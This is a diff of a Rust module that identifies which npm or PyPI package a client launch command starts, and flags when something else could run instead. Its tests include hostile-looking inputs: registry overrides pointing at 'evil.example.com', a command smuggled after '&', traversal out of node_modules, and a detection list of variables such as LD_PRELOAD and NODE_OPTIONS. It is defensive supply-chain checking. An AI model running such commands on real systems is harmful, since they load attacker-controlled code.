@@ -1,28 +1,38 @@
-//! Which package is meant: as people name one, and as clients start one. Only what is a package's name is ever taken from
-//! a command; its arguments are not looked at further.
+//! Identifies packages, from names that people write and from commands that clients run. From a command, only the
+//! package name is used; its arguments are not examined further.
 
 use crate::package_index::{PackageRegistry, is_same_package_name, normalized_name};
 
-/// The longest name of a package.
+/// Maximum length of a package name.
 const MAX_PACKAGE_NAME_BYTES: usize = 214;
 
-/// A package as it was named.
+/// A package reference.
 #[derive(Debug, Clone, PartialEq, Eq)]
 pub struct PackageName {
-    /// Where it is published, if that was said.
+    /// Registry, if given.
     pub source: Option<PackageRegistry>,
-    /// Its name there.
+    /// Name in the registry.
     pub name: String,
-    /// The version, if one was named.
+    /// Version, if given.
     pub version: Option<String>,
-    /// Whether several versions would do, as for `>=1.2`.
+    /// Whether several versions match, as for `>=1.2`.
     pub is_range: bool,
-    /// Whether it is only likely that this is what runs.
+    /// Whether it is only likely that this package runs.
     pub is_guess: bool,
 }
 
 impl PackageName {
-    /// Reads `npm:@scope/name@1.2`, `pypi:name==1.2`, `name[extra]`, or just a name.
+    /// Parses `npm:@scope/name@1.2`, `pypi:name==1.2`, `name[extra]`, or just a name.
+    ///
+    /// # Examples
+    /// ```
+    /// use gatelodge_catalogue::{PackageName, PackageRegistry};
+    ///
+    /// let package = PackageName::read("npm:@acme/files@1.2.3").expect("a package");
+    /// assert_eq!(package.source, Some(PackageRegistry::Npm));
+    /// assert_eq!(package.name, "@acme/files");
+    /// assert_eq!(package.version.as_deref(), Some("1.2.3"));
+    /// ```
     pub fn read(text: &str) -> Option<Self> {
         let (source, rest) = match text.split_once(':') {
             Some(("npm", rest)) => (Some(PackageRegistry::Npm), rest),
@@ -38,27 +48,28 @@ impl PackageName {
             None => (String::new(), rest),
         };
         let end = rest.find(['@', '=', '<', '>', '~', '!', '[', ';', ' ']).unwrap_or(rest.len());
-        let (name, behind) = rest.split_at_checked(end)?;
-        let version = behind.trim_start_matches(|letter| letter != '@' && letter != '=').trim_start_matches(['@', '=']);
-        let operator = behind.rsplit(']').next().unwrap_or_default();
+        let (name, suffix) = rest.split_at_checked(end)?;
+        let version = suffix.trim_start_matches(|letter| letter != '@' && letter != '=').trim_start_matches(['@', '=']);
+        let operator = suffix.rsplit(']').next().unwrap_or_default();
         let is_range = !operator.is_empty() && !operator.starts_with('@') && !operator.starts_with("==");
         let source = if scope.is_empty() { source } else { Some(source.unwrap_or(PackageRegistry::Npm)) };
         let named = format!("{scope}{name}");
         let version = Some(version.to_owned()).filter(|version| !version.is_empty() && version != "latest");
         let own = Self { source, name: named, version, is_range, is_guess: false };
-        (is_name(&own.name) && is_version(behind)).then_some(own)
+        (is_package_name(&own.name) && is_version_suffix(suffix)).then_some(own)
     }
 
-    /// The package that a command starts where these variables are set; none where that cannot be told.
+    /// Returns the package that a command starts when these environment variables are set. `None` if that cannot be
+    /// determined.
     pub fn of_command<'v>(words: &[String], variables: impl IntoIterator<Item = &'v str>) -> Option<Self> {
         let own = Self::parse_command(words)?;
-        // A path from here is a file that lies beside the configuration, whatever it is called.
-        let is_beside = words.first().is_some_and(|program| program.contains(['/', '\\']) && !is_absolute(program));
-        let is_guess = own.is_guess || is_beside || variables.into_iter().any(can_override_package);
+        // A relative path is a file next to the configuration, whatever its name.
+        let is_relative = words.first().is_some_and(|program| program.contains(['/', '\\']) && !is_absolute(program));
+        let is_guess = own.is_guess || is_relative || variables.into_iter().any(can_override_package);
         Some(Self { is_guess, ..own })
     }
 
-    /// Whether two names are of one package.
+    /// Returns whether both refer to the same package.
     pub fn is_same_package(&self, other: &Self) -> bool {
         self.source == other.source && is_same_package_name(self.source, &self.name, &other.name)
     }
@@ -68,36 +79,36 @@ impl PackageName {
         let program = program_name(program);
         let words: Vec<&str> = arguments.iter().map(String::as_str).collect();
         match (program, words.as_slice()) {
-            ("npx" | "bunx", rest) | ("bun", ["x", rest @ ..]) => NPX.package(rest),
-            ("pnpx", rest) | ("pnpm", ["dlx", rest @ ..]) => NPM_RUNNER.package(rest),
-            ("npm", ["exec" | "x", rest @ ..]) => NPM_EXEC.package(rest),
-            ("yarn", ["dlx", rest @ ..]) => NPX.package(rest),
-            ("uvx", rest) | ("uv", ["tool", "run", rest @ ..]) => UVX.package(rest),
-            ("pipx", ["run", rest @ ..]) => PIPX.package(rest),
-            ("deno", ["run", rest @ ..]) => DENO.package(rest),
-            // What runs is another word, of which only the packages beside it are known.
+            ("npx" | "bunx", rest) | ("bun", ["x", rest @ ..]) => NPX_RUNNER.find_package(rest),
+            ("pnpx", rest) | ("pnpm", ["dlx", rest @ ..]) => NPM_RUNNER.find_package(rest),
+            ("npm", ["exec" | "x", rest @ ..]) => NPM_EXEC_RUNNER.find_package(rest),
+            ("yarn", ["dlx", rest @ ..]) => NPX_RUNNER.find_package(rest),
+            ("uvx", rest) | ("uv", ["tool", "run", rest @ ..]) => UVX_RUNNER.find_package(rest),
+            ("pipx", ["run", rest @ ..]) => PIPX_RUNNER.find_package(rest),
+            ("deno", ["run", rest @ ..]) => DENO_RUNNER.find_package(rest),
+            // Some other program runs; only the additional packages are known.
             ("uv", ["run", "--with", package, ..]) => Self::guess_from_word(Some(PackageRegistry::Pypi), package),
-            // A module carries its package's name more often than not.
+            // A module usually has the name of its package.
             (program, ["-m", module, ..]) if program.starts_with("python") => {
                 Self::guess_from_word(Some(PackageRegistry::Pypi), module.split('.').next()?)
             }
-            // A script in a package that was installed. Whatever lies there runs, in whichever version.
-            ("node", [path, ..]) => installed(path),
-            // On Windows, clients start through the shell.
+            // A script in an installed package. Its version is unknown.
+            ("node", [path, ..]) => package_of_node_module(path),
+            // On Windows, clients start commands through the shell.
             ("cmd", [flag, ..]) if flag.eq_ignore_ascii_case("/c") => {
                 let is_plain = words.iter().all(|word| !word.contains(['&', '|', '<', '>', '^', '%']));
                 is_plain.then(|| Self::of_command(arguments.get(1..)?, []))?
             }
             ("npm" | "pnpm" | "yarn" | "bun" | "uv" | "pipx" | "deno" | "cmd", _) => None,
-            // So does a program that was installed.
+            // So does an installed program.
             (program, _) => {
                 Self::guess_from_word(None, program).filter(|own| own.version.is_none() && own.name.contains("mcp"))
             }
         }
     }
 
-    /// How the version that is meant compares with one that was read. Where none is named there is nothing to compare:
-    /// the newest starts, and that may be a later one than was read.
+    /// Compares the version with the one that was read. Without a version there is nothing to compare: the newest one
+    /// starts, which may be later than the one that was read.
     pub fn compare_version(&self, source: PackageRegistry, read: &str) -> VersionComparison {
         let Some(version) = self.version.as_deref().filter(|_| !self.is_range) else {
             return if self.is_range { VersionComparison::Unknown } else { VersionComparison::Same };
@@ -105,14 +116,14 @@ impl PackageName {
         let plain = |version: &str| {
             let version = version.strip_prefix('v').unwrap_or(version).to_ascii_lowercase();
             let ends = |text: &str| text.strip_suffix(".0").map(str::to_owned);
-            // Of Python packages 1.0 and 1.0.0 are the same.
+            // For Python packages, 1.0 and 1.0.0 are equal.
             let shorter = |text: String| std::iter::successors(Some(text), |text| ends(text)).last();
             if source == PackageRegistry::Pypi { shorter(version).unwrap_or_default() } else { version }
         };
         let is_exact = version.trim_start_matches('v').starts_with(|first: char| first.is_ascii_digit())
             && version.bytes().all(|byte| byte.is_ascii_alphanumeric() || matches!(byte, b'.' | b'-' | b'+' | b'!'))
             && !version.split('.').any(|part| part == "x" || part == "X")
-            // For npm, 1.2 is any version that begins so.
+            // For npm, 1.2 is a range.
             && (source == PackageRegistry::Pypi || version.split('.').count() >= 3);
         match is_exact {
             _ if plain(version) == plain(read) => VersionComparison::Same,
@@ -127,51 +138,51 @@ impl PackageName {
     }
 }
 
-/// How a version that is meant compares with one that was read.
+/// Result of comparing a version with the one that was read.
 #[derive(Debug, Clone, Copy, PartialEq, Eq)]
 pub enum VersionComparison {
-    /// It is the same.
+    /// The versions are equal.
     Same,
-    /// It is another.
+    /// The versions differ.
     Different,
-    /// Nobody can tell: several would do, or a word stands for it.
+    /// Cannot be determined: a range or a tag.
     Unknown,
 }
 
-/// Whether a variable of the environment lets something else run than what is published under the name.
+/// Returns whether an environment variable can cause something other than the published package to run.
 fn can_override_package(variable: &str) -> bool {
     let name = variable.to_ascii_uppercase().replace('-', "_");
-    let is_of_starter = FAMILIES.split(' ').any(|family| name.starts_with(family));
-    has(VARIABLES, &name) || is_of_starter && !has(HARMLESS, &name)
+    let is_runner_variable = RUNNER_VARIABLE_PREFIXES.split(' ').any(|family| name.starts_with(family));
+    list_contains(OVERRIDE_VARIABLES, &name) || is_runner_variable && !list_contains(HARMLESS_VARIABLES, &name)
 }
 
 fn is_absolute(program: &str) -> bool {
     program.starts_with(['/', '\\']) || program.get(1..3).is_some_and(|drive| matches!(drive, ":/" | ":\\"))
 }
 
-/// The last part of a path, without what Windows puts behind.
+/// Returns the file name of a path, without a Windows extension.
 fn program_name(program: &str) -> &str {
     let name = program.rsplit(['/', '\\']).next().unwrap_or(program);
     name.strip_suffix(".exe").or_else(|| name.strip_suffix(".cmd")).unwrap_or(name)
 }
 
-/// A program that starts packages, by the options that may stand before the package. Behind it, they are mostly the server's
-/// own. One that is not listed may take the next word or not: then nobody can tell which package it is.
+/// A program that runs packages, described by the options that can precede the package. Options after the package
+/// mostly belong to the server. An unlisted option may or may not take a value, which makes the package unknown.
 struct PackageRunner {
     source: PackageRegistry,
-    /// What a package's name begins with.
+    /// Prefix of package names.
     name_prefix: &'static str,
-    /// Options alone. Lists are parted by spaces.
+    /// Options without a value, separated by spaces.
     switches: &'static str,
     /// Options with a value.
     value_options: &'static str,
-    /// Options whose value is the interpreter. A version is one that is known; a path or another name may be any program.
+    /// Options that select the interpreter. A version is fine; a path or another name can be any program.
     interpreter_options: &'static str,
-    /// Options whose value is the package; the plain word is then a program in it.
+    /// Options that name the package; the plain word is then a program in it.
     package_options: &'static str,
-    /// Options with a value by which something else may run than what is published under the name.
+    /// Options with a value that can cause something other than the published package to run.
     override_options: &'static str,
-    /// Whether options behind the package are its own as well, up to `--`.
+    /// Whether options after the package are also parsed by the runner, up to `--`.
     parses_options_after_package: bool,
 }
 
@@ -186,10 +197,10 @@ const NPM_RUNNER: PackageRunner = PackageRunner {
     override_options: "--registry --prefix --userconfig --globalconfig --node-options -w --workspace --cache",
     parses_options_after_package: false,
 };
-const NPM_EXEC: PackageRunner = PackageRunner { parses_options_after_package: true, ..NPM_RUNNER };
-/// `npm exec` has another `-p`.
-const NPX: PackageRunner = PackageRunner { package_options: "-p --package", ..NPM_RUNNER };
-const UVX: PackageRunner = PackageRunner {
+const NPM_EXEC_RUNNER: PackageRunner = PackageRunner { parses_options_after_package: true, ..NPM_RUNNER };
+/// `npm exec` uses `-p` differently.
+const NPX_RUNNER: PackageRunner = PackageRunner { package_options: "-p --package", ..NPM_RUNNER };
+const UVX_RUNNER: PackageRunner = PackageRunner {
     source: PackageRegistry::Pypi,
     name_prefix: "",
     switches: "-q --quiet -v --verbose -n --isolated --offline --refresh -U --upgrade --reinstall --native-tls \
@@ -202,15 +213,15 @@ const UVX: PackageRunner = PackageRunner {
         --config-file --cache-dir",
     parses_options_after_package: false,
 };
-const PIPX: PackageRunner = PackageRunner {
+const PIPX_RUNNER: PackageRunner = PackageRunner {
     switches: "-q --quiet -v --verbose --pypackages --fetch-missing-python",
     value_options: "",
     interpreter_options: "--python",
     package_options: "--spec",
     override_options: "--with --index-url -i --pip-args",
-    ..UVX
+    ..UVX_RUNNER
 };
-const DENO: PackageRunner = PackageRunner {
+const DENO_RUNNER: PackageRunner = PackageRunner {
     source: PackageRegistry::Npm,
     name_prefix: "npm:",
     switches: "-A --allow-all -q --quiet -r --reload -R --allow-read -W --allow-write -N --allow-net -E --allow-env \
@@ -222,31 +233,32 @@ const DENO: PackageRunner = PackageRunner {
     parses_options_after_package: false,
 };
 
-/// What variables of the starters begin with. Any of them may say where a package comes from or what runs it.
-const FAMILIES: &str = "NPM_CONFIG_ PNPM_ YARN_ BUN_ COREPACK_ UV_ PIP_ PIPX_ PYTHON XDG_ DYLD_";
+/// Prefixes of environment variables of package runners. Each of them could change where a package comes from or what
+/// runs it.
+const RUNNER_VARIABLE_PREFIXES: &str = "NPM_CONFIG_ PNPM_ YARN_ BUN_ COREPACK_ UV_ PIP_ PIPX_ PYTHON XDG_ DYLD_";
 
-/// Those of them that people set and that change nothing of it.
-const HARMLESS: &str = "NPM_CONFIG_LOGLEVEL NPM_CONFIG_YES NPM_CONFIG_UPDATE_NOTIFIER NPM_CONFIG_FUND NPM_CONFIG_AUDIT \
+/// Variables with such a prefix that people often set and that change nothing.
+const HARMLESS_VARIABLES: &str = "NPM_CONFIG_LOGLEVEL NPM_CONFIG_YES NPM_CONFIG_UPDATE_NOTIFIER NPM_CONFIG_FUND NPM_CONFIG_AUDIT \
     NPM_CONFIG_PROGRESS NPM_CONFIG_COLOR NPM_CONFIG_LEGACY_PEER_DEPS UV_HTTP_TIMEOUT UV_NO_PROGRESS UV_LINK_MODE \
     UV_COMPILE_BYTECODE UV_PYTHON_PREFERENCE PIP_DISABLE_PIP_VERSION_CHECK PIP_NO_CACHE_DIR PIP_NO_INPUT \
     PYTHONUNBUFFERED PYTHONIOENCODING PYTHONUTF8 PYTHONDONTWRITEBYTECODE PYTHONHASHSEED PYTHONFAULTHANDLER \
     PYTHONLEGACYWINDOWSSTDIO XDG_RUNTIME_DIR XDG_SESSION_TYPE XDG_CURRENT_DESKTOP";
 
-/// Other variables by which something else may run: where programs and caches lie, what is loaded first, and who answers
-/// in place of an index.
-const VARIABLES: &str = "PATH PATHEXT HOME USERPROFILE APPDATA LOCALAPPDATA PROGRAMDATA TMPDIR TMP TEMP COMSPEC SHELL \
+/// Other variables that can change what runs: locations of programs and caches, preloaded code, and proxies or
+/// certificates for the registry.
+const OVERRIDE_VARIABLES: &str = "PATH PATHEXT HOME USERPROFILE APPDATA LOCALAPPDATA PROGRAMDATA TMPDIR TMP TEMP COMSPEC SHELL \
     BASH_ENV NODE_OPTIONS NODE_PATH NODE_EXTRA_CA_CERTS NODE_TLS_REJECT_UNAUTHORIZED HTTP_PROXY HTTPS_PROXY ALL_PROXY \
     SSL_CERT_FILE SSL_CERT_DIR REQUESTS_CA_BUNDLE CURL_CA_BUNDLE OPENSSL_CONF OPENSSL_MODULES DENO_DIR DENO_CERT \
     DENO_TLS_CA_STORE VIRTUAL_ENV CONDA_PREFIX VOLTA_HOME PYENV_ROOT ASDF_DATA_DIR LD_PRELOAD LD_LIBRARY_PATH LD_AUDIT";
 
-fn has(list: &str, option: &str) -> bool {
+fn list_contains(list: &str, option: &str) -> bool {
     list.split(' ').any(|own| own == option)
 }
 
 impl PackageRunner {
-    /// The package that is started by these words.
-    fn package(&self, words: &[&str]) -> Option<PackageName> {
-        let (mut named, mut program, mut is_bent) = (None, None, false);
+    /// Returns the package that these arguments start.
+    fn find_package(&self, words: &[&str]) -> Option<PackageName> {
+        let (mut named, mut program, mut is_overridden) = (None, None, false);
         let mut words = words.iter().copied();
         while let Some(word) = words.next() {
             if word == "--" {
@@ -262,34 +274,35 @@ impl PackageRunner {
             }
             let (option, value) = word.split_once('=').map_or((word, None), |(option, value)| (option, Some(value)));
             let is_no = option.starts_with("--no-") && !option.ends_with("-package");
-            if is_no || has(self.switches, option) {
+            if is_no || list_contains(self.switches, option) {
                 continue;
             }
             let lists = [self.value_options, self.interpreter_options, self.package_options, self.override_options];
-            if !lists.iter().any(|list| has(list, option)) {
-                // Behind the package it takes no word that matters, and may be any option, shortened.
+            if !lists.iter().any(|list| list_contains(list, option)) {
+                // After the package, no value matters, but it could be an abbreviation of any option.
                 program?;
-                is_bent = true;
+                is_overridden = true;
                 continue;
             }
             let value = value.or_else(|| words.next())?;
-            is_bent |= has(self.override_options, option) || has(self.interpreter_options, option) && !is_python(value);
-            // Which of two packages has the program, nobody can tell.
-            if has(self.package_options, option) && named.replace(value).is_some() {
+            is_overridden |= list_contains(self.override_options, option)
+                || list_contains(self.interpreter_options, option) && !is_python_version(value);
+            // It is unknown which of two packages contains the program.
+            if list_contains(self.package_options, option) && named.replace(value).is_some() {
                 return None;
             }
         }
         let program = program?;
         let own = PackageName::read(named.unwrap_or(program).strip_prefix(self.name_prefix)?)?;
         own.source.is_none_or(|source| source == self.source).then_some(())?;
-        // A program of another name may be any program of the machine.
+        // A program with a different name could be any program on the machine.
         let is_other = named.is_some() && normalized_name(own.name.rsplit('/').next()?) != normalized_name(program);
-        Some(PackageName { source: Some(self.source), is_guess: is_bent || is_other, ..own })
+        Some(PackageName { source: Some(self.source), is_guess: is_overridden || is_other, ..own })
     }
 }
 
-/// Whether an interpreter is named by its version: `3.12`, `>=3.11,<3.14`, `cpython@3.12`, `python3.12`.
-fn is_python(text: &str) -> bool {
+/// Returns whether an interpreter is given by version: `3.12`, `>=3.11,<3.14`, `cpython@3.12`, `python3.12`.
+fn is_python_version(text: &str) -> bool {
     let kinds = ["cpython", "python", "pypy", "graalpy"];
     let version = kinds.iter().find_map(|kind| text.strip_prefix(kind)).unwrap_or(text);
     let version = version.trim_start_matches(['@', '-', '>', '<', '=', '~', '!']);
@@ -297,22 +310,21 @@ fn is_python(text: &str) -> bool {
         && version.bytes().all(|byte| byte.is_ascii_digit() || b".,<>=~!*".contains(&byte))
 }
 
-/// The package that a script in `node_modules` belongs to.
-fn installed(path: &str) -> Option<PackageName> {
+/// Returns the package that a script in `node_modules` belongs to.
+fn package_of_node_module(path: &str) -> Option<PackageName> {
     let (_, inside) = path.rsplit_once("node_modules/").filter(|_| !path.starts_with('-'))?;
     let mut parts = inside.split('/');
-    // Two dots lead out of it again.
+    // `..` leads out of the package.
     parts.clone().all(|part| part != "..").then_some(())?;
     let first = parts.next()?;
     let name = if first.starts_with('@') { format!("{first}/{}", parts.next()?) } else { first.to_owned() };
     let own = PackageName { source: Some(PackageRegistry::Npm), name, version: None, is_range: false, is_guess: true };
-    is_name(&own.name).then_some(own)
+    is_package_name(&own.name).then_some(own)
 }
 
-/// Whether what stands behind a name says which version. A folder, an archive or a repository in its place is another
-/// package.
-fn is_version(behind: &str) -> bool {
-    let version = behind.trim_start_matches('@');
+/// Returns whether the text after a name is a version. A folder, archive or repository would be a different package.
+fn is_version_suffix(suffix: &str) -> bool {
+    let version = suffix.trim_start_matches('@');
     !version.contains(['/', ':', '\\']) && !version.starts_with('.') && !is_archive(version)
 }
 
@@ -320,7 +332,7 @@ fn is_archive(text: &str) -> bool {
     [".tgz", ".tar", ".gz", ".whl", ".zip"].iter().any(|end| text.ends_with(end))
 }
 
-fn is_name(name: &str) -> bool {
+fn is_package_name(name: &str) -> bool {
     let plain = |part: &str| {
         !part.is_empty()
             && !part.starts_with('.')
@@ -337,7 +349,7 @@ fn is_name(name: &str) -> bool {
 mod tests {
     use super::*;
 
-    fn started(line: &str) -> Option<(Option<PackageRegistry>, String)> {
+    fn package_started_by(line: &str) -> Option<(Option<PackageRegistry>, String)> {
         let words: Vec<String> = line.split(' ').map(str::to_owned).collect();
         PackageName::of_command(&words, []).map(|own| (own.source, own.name))
     }
@@ -346,24 +358,24 @@ mod tests {
     fn packages_are_known_by_how_clients_start_them() {
         let npm = |name: &str| Some((Some(PackageRegistry::Npm), name.to_owned()));
         let pypi = |name: &str| Some((Some(PackageRegistry::Pypi), name.to_owned()));
-        assert_eq!(started("npx -y @acme/files@1.2 /home/ada"), npm("@acme/files"));
-        assert_eq!(started("npx --yes --package @acme/files start"), npm("@acme/files"));
-        assert_eq!(started("/usr/bin/npx files"), npm("files"));
-        assert_eq!(started("cmd /c npx -y files"), npm("files"));
-        assert_eq!(started("C:\\node\\npx.cmd files"), npm("files"));
-        assert_eq!(started("pnpm dlx files"), npm("files"));
-        assert_eq!(started("deno run -A npm:files"), npm("files"));
-        assert_eq!(started("node /opt/node_modules/@acme/files/dist/index.js"), npm("@acme/files"));
-        assert_eq!(started("uvx mcp-server-git==1.0 --repository /x"), pypi("mcp-server-git"));
-        assert_eq!(started("uvx --from mcp-git[cli] serve"), pypi("mcp-git"));
-        assert_eq!(started("uvx --python 3.12 mcp-git"), pypi("mcp-git"));
-        assert_eq!(started("uv tool run mcp-git"), pypi("mcp-git"));
-        assert_eq!(started("pipx run mcp-git"), pypi("mcp-git"));
-        assert_eq!(started("python3 -m mcp_server_git.server"), pypi("mcp_server_git"));
-        assert_eq!(started("/home/ada/bin/mcp-git"), Some((None, "mcp-git".to_owned())));
+        assert_eq!(package_started_by("npx -y @acme/files@1.2 /home/ada"), npm("@acme/files"));
+        assert_eq!(package_started_by("npx --yes --package @acme/files start"), npm("@acme/files"));
+        assert_eq!(package_started_by("/usr/bin/npx files"), npm("files"));
+        assert_eq!(package_started_by("cmd /c npx -y files"), npm("files"));
+        assert_eq!(package_started_by("C:\\node\\npx.cmd files"), npm("files"));
+        assert_eq!(package_started_by("pnpm dlx files"), npm("files"));
+        assert_eq!(package_started_by("deno run -A npm:files"), npm("files"));
+        assert_eq!(package_started_by("node /opt/node_modules/@acme/files/dist/index.js"), npm("@acme/files"));
+        assert_eq!(package_started_by("uvx mcp-server-git==1.0 --repository /x"), pypi("mcp-server-git"));
+        assert_eq!(package_started_by("uvx --from mcp-git[cli] serve"), pypi("mcp-git"));
+        assert_eq!(package_started_by("uvx --python 3.12 mcp-git"), pypi("mcp-git"));
+        assert_eq!(package_started_by("uv tool run mcp-git"), pypi("mcp-git"));
+        assert_eq!(package_started_by("pipx run mcp-git"), pypi("mcp-git"));
+        assert_eq!(package_started_by("python3 -m mcp_server_git.server"), pypi("mcp_server_git"));
+        assert_eq!(package_started_by("/home/ada/bin/mcp-git"), Some((None, "mcp-git".to_owned())));
     }
 
-    /// The marked word is the package that runs; behind it, options are the server's own.
+    /// `evil` is the package that runs; options after it belong to the server.
     #[test]
     fn options_behind_the_package_are_the_servers_own() {
         for line in [
@@ -384,7 +396,7 @@ mod tests {
             "deno run -A npm:evil npm:good",
             "cmd /c npx evil -p good",
         ] {
-            assert_eq!(started(line).map(|(_, name)| name).as_deref(), Some("evil"), "{line}");
+            assert_eq!(package_started_by(line).map(|(_, name)| name).as_deref(), Some("evil"), "{line}");
         }
         for line in [
             "deno run -A evil.ts npm:good",
@@ -404,7 +416,7 @@ mod tests {
             "node /x/node_modules/good/../../evil.js",
             "cmd /c npx good & evil",
         ] {
-            assert_eq!(started(line), None, "{line}");
+            assert_eq!(package_started_by(line), None, "{line}");
         }
     }
 
@@ -420,21 +432,21 @@ mod tests {
             "/home/ada/bin/mcp-good",
             "./uvx good",
             "tools/npx good",
-            // Whatever lies there runs.
+            // Whatever is installed there runs.
             "node /opt/node_modules/@acme/good/dist/index.js",
             "npx -p good bash",
             "uvx --from good bash",
             "uvx --with evil good",
             "uvx --index-url https://evil.example.com good",
             "npx --registry https://evil.example.com good",
-            // Whatever lies there runs the package.
+            // Whatever is there runs the package.
             "uvx --python ./evil good",
             "uvx -p /tmp/evil/python3.12 good",
             "uvx --python=evil good",
             "pipx run --python evil good",
             "npx --cache /tmp/evil good",
             "uvx --cache-dir=/tmp/evil good",
-            // `npm exec` takes options behind the name as its own.
+            // `npm exec` also parses options after the name.
             "npm exec good --package=evil",
             "npm exec good --registry=http://evil",
             "npm x good --registry http://evil -- --x",
@@ -470,7 +482,7 @@ mod tests {
             "uv run server.py",
             "npx ./local",
         ] {
-            assert_eq!(started(line), None, "{line}");
+            assert_eq!(package_started_by(line), None, "{line}");
         }
         for text in ["https://a/mcp", "../x", "@scope", "a b/c", ""] {
             assert!(PackageName::read(text).is_none_or(|own| own.name == "a"), "{text}");
